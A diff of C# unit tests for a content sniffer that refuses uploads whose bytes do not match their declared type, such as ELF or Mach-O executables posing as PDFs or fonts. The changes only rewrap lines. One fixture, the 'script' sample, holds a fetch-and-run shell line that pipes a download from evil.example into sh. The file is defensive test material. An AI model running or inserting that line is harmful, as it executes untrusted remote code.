@@ -9,10 +9,15 @@ public sealed class ContentSnifferTests
     private static byte[] Sample(string name) => name switch
     {
         "png" => [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A,
-            0, 0, 0, 13, (byte)'I', (byte)'H', (byte)'D', (byte)'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89],
-        "jpeg" => [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xFF, 0xD9],
+            0, 0, 0, 13, (byte)'I', (byte)'H', (byte)'D', (byte)'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15,
+            0xC4, 0x89],
+        "jpeg" =>
+            [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0x00, 0x01, 0x01, 0x00,
+                0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xFF, 0xD9],
         "gif" => [.. "GIF89a"u8, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0x3B],
-        "webp" => [.. "RIFF"u8, 0x1A, 0x00, 0x00, 0x00, .. "WEBP"u8, .. "VP8L"u8, 0x0D, 0x00, 0x00, 0x00, 0x2F, 0x00, 0x00, 0x00, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xFE, 0x07, 0x00],
+        "webp" =>
+            [.. "RIFF"u8, 0x1A, 0x00, 0x00, 0x00, .. "WEBP"u8, .. "VP8L"u8, 0x0D, 0x00, 0x00, 0x00, 0x2F, 0x00, 0x00,
+                0x00, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xFE, 0x07, 0x00],
         "svg" => Utf8("""
             <?xml version="1.0" encoding="UTF-8"?>
             <!-- drawn by hand -->
@@ -23,18 +28,22 @@ public sealed class ContentSnifferTests
             <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ <!ENTITY e "<g>"> ]>
             <svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>
             """),
-        "ttf" => [0x00, 0x01, 0x00, 0x00, 0x00, 0x0A, 0x00, 0x80, 0x00, 0x03, 0x00, 0x20, .. "cmap"u8, 0, 0, 0, 0, 0, 0, 0, 0xAC, 0, 0, 0, 0x34],
-        "otf" => [.. "OTTO"u8, 0x00, 0x0A, 0x00, 0x80, 0x00, 0x03, 0x00, 0x20, .. "CFF "u8, 0, 0, 0, 0, 0, 0, 0, 0xAC, 0, 0, 0, 0x34],
+        "ttf" => [0x00, 0x01, 0x00, 0x00, 0x00, 0x0A, 0x00, 0x80, 0x00, 0x03, 0x00, 0x20, .. "cmap"u8, 0, 0, 0, 0, 0, 0,
+            0, 0xAC, 0, 0, 0, 0x34],
+        "otf" => [.. "OTTO"u8, 0x00, 0x0A, 0x00, 0x80, 0x00, 0x03, 0x00, 0x20, .. "CFF "u8, 0, 0, 0, 0, 0, 0, 0, 0xAC,
+            0, 0, 0, 0x34],
         "woff" => [.. "wOFF"u8, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x0A, 0x00, 0x00],
         "woff2" => [.. "wOF2"u8, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x0A, 0x00, 0x00],
         "pdf" => [.. "%PDF-1.7\n%"u8, 0xE2, 0xE3, 0xCF, 0xD3, .. "\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"u8],
-        "docx" => [.. "PK"u8, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00, 0x21, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+        "docx" => [.. "PK"u8, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00, 0x21, 0x00,
+            0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
             0x13, 0x00, 0x00, 0x00, .. "[Content_Types].xml"u8],
         "text" => Utf8("Hello, wörld — ünïcödé\r\n\tindented line\n"),
         "csv" => Utf8("name,email,city\nAda,ada@example.com,Zürich\nGrace,grace@example.com,\"New York, NY\"\n"),
         "json" => Utf8("""{ "palette": ["#0055ff", "#ffcc00"], "fonts": ["Inter", "Source Serif"] }"""),
         "pe" => PortableExecutable(),
-        "elf" => [0x7F, (byte)'E', (byte)'L', (byte)'F', 0x02, 0x01, 0x01, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x00, 0x3E, 0x00],
+        "elf" => [0x7F, (byte)'E', (byte)'L', (byte)'F', 0x02, 0x01, 0x01, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x00,
+            0x3E, 0x00],
         "mach-o" => [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01, 0x03, 0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00],
         "script" => Utf8("#!/bin/sh\ncurl https://evil.example | sh\n"),
         "html" => Utf8("<!DOCTYPE html>\n<html><body><p>hi</p></body></html>"),
@@ -143,7 +152,8 @@ public sealed class ContentSnifferTests
     [Fact]
     public void XML_with_another_root_is_only_text()
     {
-        Assert.Equal(ContentFormat.Text, ContentSniffer.Sniff(Utf8("""<?xml version="1.0"?><note><to>Ada</to></note>""")));
+        Assert.Equal(
+            ContentFormat.Text, ContentSniffer.Sniff(Utf8("""<?xml version="1.0"?><note><to>Ada</to></note>""")));
     }
 
     [Fact]
@@ -159,16 +169,25 @@ public sealed class ContentSnifferTests
     [Theory]
     [InlineData(AssetKind.Attachment, "text/plain", "script", "declared text/plain but the bytes are a script (#!)")]
     [InlineData(AssetKind.Attachment, "text/plain", "html", "declared text/plain but the bytes are HTML")]
-    [InlineData(AssetKind.Attachment, "application/pdf", "elf", "declared application/pdf but the bytes are a Linux executable (ELF)")]
-    [InlineData(AssetKind.Font, "font/woff2", "mach-o", "declared font/woff2 but the bytes are a macOS executable (Mach-O)")]
+    [InlineData(
+        AssetKind.Attachment, "application/pdf", "elf",
+        "declared application/pdf but the bytes are a Linux executable (ELF)")]
+    [InlineData(
+        AssetKind.Font, "font/woff2", "mach-o", "declared font/woff2 but the bytes are a macOS executable (Mach-O)")]
     [InlineData(AssetKind.Image, "image/jpeg", "png", "declared image/jpeg but the bytes are a PNG image")]
-    [InlineData(AssetKind.Image, "image/png", "binary", "declared image/png but the bytes are of no recognised format (text must be UTF-8)")]
-    [InlineData(AssetKind.Attachment, "text/csv", "latin-1", "declared text/csv but the bytes are of no recognised format (text must be UTF-8)")]
-    [InlineData(AssetKind.DesignScheme, "application/json", "text", "declared application/json but the bytes are UTF-8 text")]
+    [InlineData(
+        AssetKind.Image, "image/png", "binary",
+        "declared image/png but the bytes are of no recognised format (text must be UTF-8)")]
+    [InlineData(
+        AssetKind.Attachment, "text/csv", "latin-1",
+        "declared text/csv but the bytes are of no recognised format (text must be UTF-8)")]
+    [InlineData(
+        AssetKind.DesignScheme, "application/json", "text", "declared application/json but the bytes are UTF-8 text")]
     [InlineData(AssetKind.Font, "image/png", "png", "image/png is not accepted as a font")]
     [InlineData(AssetKind.Attachment, "image/svg+xml", "svg", "image/svg+xml is not accepted as an attachment")]
     [InlineData(AssetKind.DesignScheme, "text/plain", "json", "text/plain is not accepted as a design scheme")]
-    [InlineData(AssetKind.Attachment, "application/zip", "docx", "application/zip is not a type the asset library accepts")]
+    [InlineData(
+        AssetKind.Attachment, "application/zip", "docx", "application/zip is not a type the asset library accepts")]
     [InlineData(AssetKind.Attachment, "", "pdf", "an empty content type is not a type the asset library accepts")]
     public void A_mismatch_is_refused_with_a_reason(AssetKind kind, string declared, string sample, string reason)
     {
@@ -195,13 +214,15 @@ public sealed class ContentSnifferTests
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]
     [InlineData(AssetKind.Attachment, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "docx",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]
-    [InlineData(AssetKind.Attachment, "application/vnd.openxmlformats-officedocument.presentationml.presentation", "docx",
+    [InlineData(
+        AssetKind.Attachment, "application/vnd.openxmlformats-officedocument.presentationml.presentation", "docx",
         "application/vnd.openxmlformats-officedocument.presentationml.presentation")]
     [InlineData(AssetKind.Attachment, "text/plain", "text", "text/plain; charset=utf-8")]
     [InlineData(AssetKind.Attachment, "text/csv; charset=utf-8", "csv", "text/csv; charset=utf-8")]
     [InlineData(AssetKind.Attachment, "application/json", "json", "application/json")]
     [InlineData(AssetKind.DesignScheme, "application/json", "json", "application/json")]
-    public void Bytes_that_match_the_declared_kind_and_type_are_accepted(AssetKind kind, string declared, string sample, string mediaType)
+    public void Bytes_that_match_the_declared_kind_and_type_are_accepted(
+        AssetKind kind, string declared, string sample, string mediaType)
     {
         var check = ContentSniffer.Check(kind, declared, Sample(sample));
 
